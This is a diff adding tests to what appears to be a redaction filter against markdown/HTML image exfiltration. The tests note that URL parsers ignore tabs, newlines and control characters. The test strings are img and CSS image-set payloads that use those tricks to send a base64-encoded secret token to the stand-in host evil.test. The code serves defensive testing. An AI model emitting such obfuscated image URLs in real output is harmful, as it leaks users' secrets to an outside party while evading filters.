@@ -193,3 +193,17 @@ describe('markdown-exfiltration reads a refresh without url=', () => {
     );
   });
 });
+
+// Attack review (issue 14): the URL parser drops leading C0 controls and every tab and newline,
+// so `/&#9;/evil.test/…` and `&#1;//evil.test/…` are fetched from evil.test; they were read
+// as relative URLs.
+describe('markdown-exfiltration reads // split by a tab or a newline, or after a control', () => {
+  it.each([
+    '<img src="&#1;//evil.test/p.png?d=c2VjcmV0LXRva2Vu">',
+    '<img src="/&#9;/evil.test/p.png?d=c2VjcmV0LXRva2Vu">',
+    '<img src="/\n/evil.test/p.png?d=c2VjcmV0LXRva2Vu">',
+    '<div style="background:image-set(&quot;/\\9 /evil.test/p.png?d=c2VjcmV0LXRva2Vu&quot; 1x)">x</div>',
+  ])('%j', (text) => {
+    expect(redacted({}, text)).not.toContain('c2VjcmV0LXRva2Vu');
+  });
+});
